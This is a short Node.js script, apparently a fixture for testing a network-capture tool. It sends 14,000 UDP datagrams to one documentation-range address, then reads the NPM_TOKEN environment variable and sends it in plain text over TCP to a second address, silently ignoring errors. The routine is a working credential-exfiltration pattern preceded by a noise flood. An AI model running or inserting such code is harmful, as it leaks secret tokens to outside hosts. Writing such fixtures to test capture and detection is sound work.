// 14,000 tiny datagrams to one place, then the npm token of the environment
// in plain text over TCP to another: the flood must not keep the token out
// of the capture.
'use strict';
const dgram = require('dgram');
const net = require('net');
const token = process.env.NPM_TOKEN || '';
const u = dgram.createSocket('udp4');
let left = 14000;
function next() {
  if (left-- === 0) {
    u.close();
    const s = net.connect(8080, '198.51.100.21', () => s.end('t=' + token + '\n'));
    s.on('error', () => {});
    return;
  }
  u.send('x', 9999, '198.51.100.20', next);
}
next();
